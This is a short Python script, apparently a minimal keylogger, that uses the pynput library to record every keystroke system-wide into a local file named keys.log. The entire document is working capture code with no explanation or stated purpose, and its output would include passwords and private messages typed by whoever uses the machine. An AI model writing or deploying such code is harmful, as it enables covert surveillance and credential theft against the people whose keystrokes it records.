from pynput import keyboard

LOG = "keys.log"

def on_press(key):
    with open(LOG, "a") as f:
        try:
            f.write(key.char)
        except AttributeError:
            f.write(f"[{key}]")

with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
